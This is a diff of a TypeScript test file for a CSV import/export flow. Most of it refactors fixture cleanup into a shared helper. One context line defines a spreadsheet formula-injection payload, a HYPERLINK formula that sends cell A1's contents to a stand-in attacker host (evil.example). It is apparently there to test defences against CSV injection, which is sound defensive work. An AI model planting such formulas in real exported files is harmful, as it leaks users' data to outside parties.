@@ -5,25 +5,13 @@
  * and the residents get exactly the values of the original file.
  */
 import { parse } from 'csv-parse/sync';
-import { afterEach, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import * as g from '../../../gateway/src/index.js';
 import { readImportCsv, writeCsv } from '../../../gateway/src/flows/csv-file.js';
-import { apiFixture } from '../api-helpers.js';
+import { apiFixturesClosedAfterEach } from '../api-helpers.js';
 import { f, HEADER } from './flow-helpers.js';
 
-const cleanups: (() => Promise<void> | void)[] = [];
-afterEach(async () => {
-  while (cleanups.length) await cleanups.pop()!();
-});
-
-async function api() {
-  const a = await apiFixture();
-  cleanups.push(async () => {
-    await a.app.close();
-    a.db.close();
-  });
-  return a;
-}
+const api = apiFixturesClosedAfterEach();
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
 
